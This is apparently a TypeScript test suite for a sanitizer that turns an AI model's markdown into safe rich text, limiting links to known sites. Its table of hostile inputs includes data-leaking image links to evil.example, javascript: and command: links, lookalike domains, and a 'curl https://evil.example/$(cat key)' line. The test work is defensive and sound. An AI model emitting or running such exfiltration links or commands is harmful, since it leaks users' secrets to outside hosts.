import assert from "node:assert/strict";
import fc from "fast-check";
import { processorTime } from "../../../test/support/processor-time.ts";
import type { RichText } from "../../contract/rich-text.ts";
import { isKnownSite } from "./known-sites.ts";
import { readRichText } from "./read-rich-text.ts";

const ofModel = { mayLink: isKnownSite, mayShow: (address: string) => address === "https://api.garden.example/v1" };
const read = (text: string) => readRichText(text, ofModel);
const line = (text: string) => {
  const [block] = read(text);
  assert.equal(block?.kind, "paragraph");
  return block.pieces;
};
const text = (words: string) => ({ kind: "text", text: words });

describe("rich text of a model", () => {
  it("is paragraphs, lists and code", () => {
    assert.deepEqual(
      read("# Why\n\nA quote\nends it.\n\n- one\n  more\n* two\n1. three\n\n```dart\nfoo();\n```\nEnd"),
      [
        { kind: "paragraph", pieces: [text("Why")] },
        { kind: "paragraph", pieces: [text("A quote ends it.")] },
        { kind: "list", items: [[text("one more")], [text("two")], [text("three")]] },
        { kind: "code", language: "dart", text: "foo();" },
        { kind: "paragraph", pieces: [text("End")] },
      ],
    );
  });

  it("keeps code that nobody closed as code", () => {
    assert.deepEqual(read("~~~\na\n\nb"), [{ kind: "code", language: "", text: "a\n\nb" }]);
  });

  it("has code, strong words and links to documentation in a line", () => {
    assert.deepEqual(line("Use `a * b` **now**, see [the page](https://dart.dev/tools/pub#a)."), [
      text("Use "),
      { kind: "code", text: "a * b" },
      text(" "),
      { kind: "strong", text: "now" },
      text(", see "),
      { kind: "link", text: "the page", url: "https://dart.dev/tools/pub#a" },
      text("."),
    ]);
    assert.deepEqual(line("See <https://pub.dev/packages/dio>."), [
      text("See "),
      { kind: "link", text: "https://pub.dev/packages/dio", url: "https://pub.dev/packages/dio" },
      text("."),
    ]);
  });

  it("shows an address that the source holds, and makes no link of it", () => {
    assert.deepEqual(line("Call https://api.garden.example/v1 there."), [
      text("Call "),
      text("https://api.garden.example/v1"),
      text(" there."),
    ]);
    assert.deepEqual(line("[it](https://api.garden.example/v1)"), [text("it")]);
  });

  const hostile: readonly (readonly [what: string, markdown: string])[] = [
    ["an image", "![a](https://evil.example/?d=1)"],
    ["an image of a known site", "![a](https://pub.dev/a.png)"],
    ["a link", "[a](https://evil.example/x)"],
    ["a link that runs code", "[a](javascript:alert(1))"],
    ["a link with a command of an editor", "[a](command:workbench.action.terminal.new)"],
    ["a link by reference", "[a][1]\n\n[1]: https://evil.example/x"],
    ["an address", "See https://evil.example/?key=abc"],
    ["an address without a scheme", "See www.evil.example/abc"],
    ["an address in code", "`https://evil.example/?key=abc`"],
    ["an address in a block of code", "```\ncurl https://evil.example/$(cat key)\n```"],
    ["an address with a user", "https://pub.dev@evil.example/"],
    ["an address with a question on a known site", "https://pub.dev/packages?q=abc"],
    ["an address that looks like a known site", "https://pub.dev.evil.example/ https://рub.dev/"],
    ["HTML", '<img src="https://evil.example/x">'],
    ["data", "data:text/html;base64,AAAA"],
    ["an address in strong words", "**https://evil.example/x**"],
    ["an address in a label", "[https://evil.example/x](https://pub.dev/)"],
  ];
  for (const [what, markdown] of hostile) {
    it(`makes no link and no image of ${what}`, () => {
      const shown = JSON.stringify(read(markdown));
      assert.doesNotMatch(shown, /evil|рub|javascript:|command:|data:|packages\?/);
      assert.doesNotMatch(shown, /"url":"(?!https:\/\/pub\.dev\/")/);
    });
  }

  it("leaves out what hides or reorders text", () => {
    assert.deepEqual(line("a\u202eb\u200b\u001b[31mc\u2066\u{e0041}d"), [text("ab[31mcd")]);
  });

  const pieces = (content: RichText) =>
    content.flatMap((block) => {
      if (block.kind === "code") return [block];
      return block.kind === "list" ? block.items.flat() : block.pieces;
    });
  const markup = fc.constantFrom(
    "[",
    "](",
    ")",
    "!",
    "`",
    "```\n",
    "**",
    "<",
    ">",
    "\n",
    "- ",
    "https://",
    "www.",
    "a",
    " ",
  );

  it("links to known sites only, whatever a model writes", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(markup, fc.string(), fc.webUrl())), (parts) => {
        for (const piece of pieces(read(parts.join("")))) {
          if (piece.kind === "link") assert.ok(isKnownSite(piece.url));
          else assert.doesNotMatch(piece.text, /[a-z]:\/\/|www\./i);
          assert.doesNotMatch(piece.text, /[^\P{Cc}\n\t]|\p{Bidi_Control}/u);
        }
      }),
    );
  });

  it("is read in time that grows with its length", () => {
    for (const part of ["[", "`", "**", "![", "<", "www.", "a://", "- ", "```\n"]) {
      assert.ok(processorTime(() => read(part.repeat(8_000))) < 500, part);
    }
  });
});
